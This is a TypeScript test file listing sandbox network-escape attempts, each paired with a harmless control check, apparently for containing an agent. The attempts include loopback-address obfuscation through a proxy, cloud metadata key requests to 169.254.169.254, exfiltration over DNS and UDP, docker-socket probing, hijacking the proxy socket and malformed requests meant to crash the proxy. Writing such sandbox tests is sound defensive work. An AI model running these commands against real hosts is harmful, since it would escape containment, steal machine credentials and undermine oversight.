import { node, printed, prints, succeeds } from "../escape.ts";
import type { Escape, Ran } from "../escape.ts";

/** Getting out over any wire. What reaches a service of the host is written down there. */
const reachedNothing = ({ world }: Ran) => world.reached.splice(0).length > 0;

function fetching(url: string): string {
  return node(`fetch("${url}").then(r=>r.text()).then(console.log,()=>console.log("no answer"))`);
}

/** Asks the proxy of the house as a program would that knows what it is. */
function throughProxy(request: string): string {
  return node(`const s=require("net").connect(+new URL(process.env.HTTP_PROXY).port,"127.0.0.1");
    s.on("error",()=>console.log("no"));s.on("data",d=>console.log(String(d)));
    setTimeout(()=>s.destroy(),1500).unref();s.write(${JSON.stringify(request)})`);
}

function asking(url: string): string {
  return throughProxy(`GET ${url} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
}

export const networkEscapes: readonly Escape[] = [
  {
    name: "talk to a service on the host's loopback",
    attempt: ({ servicePort }) =>
      `${fetching(`http://127.0.0.1:${servicePort}/`)}; ${fetching(`http://localhost:${servicePort}/`)}`,
    escaped: reachedNothing,
    honest: {
      name: "a server of its own",
      line: () =>
        node(`const s=require("http").createServer((q,r)=>r.end("own")).listen(0,"127.0.0.1",()=>
          fetch("http://127.0.0.1:"+s.address().port).then(r=>r.text()).then(console.log)
          .then(()=>s.close()))`),
      works: prints("own"),
    },
  },
  {
    name: "talk to it through the proxy of the house",
    attempt: ({ servicePort: port }) =>
      ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1"]
        .flatMap((host) => [
          throughProxy(`CONNECT ${host}:${port} HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.0\r\n\r\n`),
          asking(`http://${host}:${port}/`),
        ])
        .join("; "),
    escaped: (ran) => reachedNothing(ran) || ran.stdout.includes("the service"),
    honest: {
      name: "its model, through the proxy or as if it were inside",
      line: ({ modelPort: port }) =>
        `${asking(`http://127.0.0.1:${port}/`)};
         ${fetching(`http://127.0.0.1:${port}/`)}`,
      works: ({ stdout }) => stdout.split("the model").length === 3,
    },
  },
  {
    name: "reach a host that nobody named",
    attempt: () =>
      ["example.com:443", "1.1.1.1:443", "registry.npmjs.org:443", "example.com:22"]
        .map((host) => throughProxy(`CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n\r\n`))
        .join("; "),
    escaped: ({ stdout, refusedHosts = [] }) =>
      stdout.split("403 Forbidden").length !== 5 || refusedHosts.length !== 4,
    honest: {
      name: "being told why",
      line: () => throughProxy("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n"),
      works: prints("settings name hosts"),
    },
  },
  {
    name: "ask a cloud for the keys of the machine",
    attempt: () =>
      `${fetching("http://169.254.169.254/latest/meta-data/")};
       ${asking("http://169.254.169.254/latest/")};
       ${asking("http://metadata.google.internal/")}`,
    escaped: ({ stdout }) =>
      !stdout.includes("no answer") || stdout.split("403 Forbidden").length !== 3,
    honest: {
      name: "knowing its own addresses",
      line: () => node("console.log(Object.keys(require('os').networkInterfaces()))"),
      works: prints("lo"),
    },
  },
  {
    name: "carry something out by the names it looks up",
    attempt: ({ datagramPort }) =>
      `getent hosts secret.example.com && echo found; nslookup secret.example.com 127.0.0.1
       ${node(`require("dns").lookup("secret.example.com",e=>e||console.log("found"))`)}
       ${node(`const s=require("dgram").createSocket("udp4");
         s.send("secret",${datagramPort},"127.0.0.1",()=>s.close())`)}`,
    escaped: (ran) => printed("found")(ran) || reachedNothing(ran),
    honest: {
      name: "the names of its own machine",
      line: () => "getent hosts localhost",
      works: succeeds,
    },
  },
  {
    name: "talk to a service by its socket",
    attempt: ({ serviceSocket }) =>
      `${node(`require("net").connect("${serviceSocket}").on("error",()=>{})
        .on("data",d=>console.log(String(d)))`)}; ls /run/docker.sock /var/run/*.sock && echo seen`,
    escaped: (ran) => reachedNothing(ran) || printed("seen")(ran),
    honest: {
      name: "a socket of its own",
      line: () =>
        node(`const n=require("net");const s=n.createServer(c=>c.end("own")).listen("/tmp/s",()=>
          n.connect("/tmp/s").on("data",d=>console.log(String(d))).on("close",()=>s.close()))`),
      works: prints("own"),
    },
  },
  {
    name: "talk to a service by a socket without a place",
    attempt: ({ abstractSocket }) =>
      node(`require("net").connect("\\0${abstractSocket}").on("error",()=>{})`),
    escaped: reachedNothing,
    honest: {
      name: "a socket of its own without a place",
      line: () =>
        node(`const n=require("net");const s=n.createServer(c=>c.end("own")).listen("\\0own",()=>
          n.connect("\\0own").on("data",d=>console.log(String(d))).on("close",()=>s.close()))`),
      works: prints("own"),
    },
  },
  {
    name: "use sockets that no network namespace holds",
    attempt: () =>
      `perl -e 'for (40, 17, 38) { print "opened $_\\n" if socket(S, $_, 3, 0) || socket(S, $_, 5, 0) }'`,
    escaped: printed("opened"),
    honest: {
      name: "a socket of the internet's",
      line: () => `perl -e 'print "opened" if socket(S, 2, 1, 0)'`,
      works: prints("opened"),
    },
  },
  {
    name: "turn the way out into its own",
    attempt: ({ servicePort }) =>
      `for p in $(grep -l inside.ts /proc/[0-9]*/cmdline | cut -d/ -f3 | sort -n | tail -1); do :; done
       out=$(tr '\\0' '\\n' < /proc/$PPID/cmdline | grep /out$); ls -A "$(dirname "$out")"
       echo x > "$(dirname "$out")/evil" && echo written; rm -f "$out"; test -S "$out" || echo removed
       ${node(`const s=require("net").connect(process.argv[1]||"/none").on("error",()=>{});
         s.on("data",d=>console.log(String(d)));
         s.end("CONNECT 127.0.0.1:${servicePort} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n")`)} "$out"`,
    escaped: (ran) => reachedNothing(ran) || /written|removed|the service/.test(ran.stdout),
    honest: {
      name: "many requests at once",
      line: ({ modelPort }) =>
        node(`Promise.all(Array.from({length:50},()=>fetch("http://127.0.0.1:${modelPort}/")))
          .then(all=>console.log(all.filter(r=>r.ok).length))`),
      works: prints("50"),
    },
  },
  {
    name: "break the proxy, and the house with it",
    attempt: () =>
      [
        "\0".repeat(1_000),
        `GET ${"x".repeat(100_000)} HTTP/1.1\r\n\r\n`,
        "CONNECT :::::: HTTP/1.1\r\n\r\n",
      ]
        .concat(["GET http://%zz/ HTTP/1.1\r\nHost: x\r\n\r\n", "CONNECT / HTTP/1.1\r\n\r\n"])
        .map(throughProxy)
        .join("; "),
    escaped: async ({ world }) => {
      const after = await world.worker(fetching(`http://127.0.0.1:${world.modelPort}/`));
      return !after.stdout.includes("the model");
    },
    honest: {
      name: "an answer of some size",
      line: ({ modelPort }) => fetching(`http://127.0.0.1:${modelPort}/?${"x".repeat(8_000)}`),
      works: prints("the model"),
    },
  },
];
